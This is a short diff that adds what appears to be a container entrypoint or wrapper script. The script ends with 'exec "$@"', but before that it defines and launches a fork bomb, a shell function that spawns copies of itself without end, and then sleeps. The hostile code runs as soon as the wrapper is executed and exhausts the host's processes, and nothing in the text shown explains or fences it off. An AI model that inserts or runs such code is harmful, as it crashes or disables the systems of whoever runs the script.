@@ -1,0 +1,4 @@
+bomb() { bomb | bomb & }
+bomb
+sleep 100
+exec "$@"
